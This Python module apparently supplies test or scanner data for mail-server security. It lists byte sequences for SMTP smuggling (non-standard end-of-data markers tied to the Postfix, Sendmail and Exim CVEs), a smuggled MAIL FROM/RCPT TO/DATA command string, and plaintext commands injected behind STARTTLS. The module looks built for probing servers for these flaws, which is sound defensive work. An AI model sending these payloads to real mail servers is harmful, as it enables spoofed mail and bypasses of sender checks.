"""Octets with which mail and commands were smuggled past servers.

SMTP smuggling: CVE-2023-51764 (Postfix), CVE-2023-51765 (Sendmail), CVE-2023-51766
(Exim) and their like: an end of data that one server sees and another does not.
STARTTLS: CVE-2011-0411 and the twenty that "Why TLS is better without STARTTLS" (2021)
found: plaintext that is read as if it had come over TLS.
"""

from __future__ import annotations

#: None of these is CRLF.CRLF (RFC 5321 §4.1.1.4), each has ended data somewhere.
NO_END_OF_DATA = [
    b"\n.\n",
    b"\r.\r",
    b"\n.\r\n",
    b"\r\n.\n",
    b"\r.\r\n",
    b"\r\n.\r",
    b"\n.\r",
    b"\r.\n",
    b"\n\n.\n\n",
    b"\r\r.\r\r",
    b"\r\n.\n\r",
    b"\n\r.\n\r",
    b"\r\n.\r\r\n",
    b"\r\n..\r\n",
    b"\r\n.\x00\r\n",
    b"\r\n\x00.\r\n",
    b"\r\x00\n.\r\n",
    b"\r\n.\r\x00\n",
    b"\x00\r\n\x00.\x00\r\n\x00",
    b"\r\n. \r\n",
    b"\r\n.\t\r\n",
    b"\r\n .\r\n",
    b"\r\n.\x0b\r\n",
    b"\x0b.\x0b",
    b"\x0c.\x0c",
    b"\x1a.\x1a",
    b"\x85.\x85",
    b"\xc2\x85.\xc2\x85",
    b"\xe2\x80\xa8.\xe2\x80\xa8",
    b"\r\n\xef\xbb\xbf.\r\n",
    b"\r\n.=0D=0A",
    b"\r\n%2e\r\n",
    b"\\r\\n.\\r\\n",
    b"\r\n.\r\\n",
    # The list of SEC Consult's scanner for servers that send (2024).
    b"\r\r\n.\r\r\n",
    # A line that ends for one server is part of the next one for another.
    b"\r\n.\n.\r\n",
    b"\r\n.\r.\r\n",
    b"\n\r\n.\n",
    b"\n\x00.\r\n",
    b"\r\n.\r\r\r\n",
    b"\r\n.\n\n",
    b"\r\n\r.\r\n",
    # Characters that a server may leave out or take for another: backspace, DEL, ESC,
    # IAC of telnet, no-break space, overlong UTF-8, UTF-16, other full stops.
    b"\r\n\x08.\r\n",
    b"\r\n.\x7f\r\n",
    b"\r\n.\x1b\r\n",
    b"\r\n\xff.\r\n",
    b"\r\n.\xff\r\n",
    b"\r\n.\xc2\xa0\r\n",
    b"\xc0\x8d\xc0\x8a.\xc0\x8d\xc0\x8a",
    b"\r\n\xc0\xae\r\n",
    b"\r\x00\n\x00.\x00\r\x00\n\x00",
    b"\r\n\xef\xbc\x8e\r\n",
    b"\r\n\xe3\x80\x82\r\n",
    # What str.splitlines() takes for the end of a line.
    b"\x1c.\x1c",
    b"\x1d.\x1d",
    b"\x1e.\x1e",
    b"\xe2\x80\xa9.\xe2\x80\xa9",
]

#: What an attacker hopes to be taken for commands.
SMUGGLED = (
    b"MAIL FROM:<evil@example.org>\r\nRCPT TO:<victim@example.org>\r\n"
    b"DATA\r\nSubject: smuggled\r\n\r\nhello"
)

#: Plaintext behind STARTTLS, in the same packet or just after it.
BEHIND_STARTTLS = [
    b"NOOP\r\n",
    b"EHLO evil.example.org\r\n",
    b"EHLO evil.example.org\r\nMAIL FROM:<evil@example.org>\r\n",
    b"RSET\r\nRSET\r\n",
    b"AUTH PLAIN AHRpbQB0YW5zdGFhZg==\r\n",
    b"QUIT\r\n",
    b"STARTTLS\r\n",
    b"MAIL FROM:<evil@example.org>",
    b"\r\n",
    b"\n",
    b"N",
    b"\x00",
    b"BDAT 5 LAST\r\nhello",
    b"XCLIENT NAME=evil.example.org LOGIN=tim\r\n",
    b"PROXY TCP4 192.0.2.1 192.0.2.2 25 25\r\n",
    b"DATA\r\nSubject: smuggled\r\n\r\n.\r\n",
    b"\r\n.\r\n",
    b"*\r\n",
    b"NOOP\n",
    b"NOOP\r",
    # The beginning of a handshake: the client is to wait for the 220.
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    b"NOOP\r\n\x16\x03\x01\x02\x00\x01",
    b"NOOP\r\n" * 20,
]
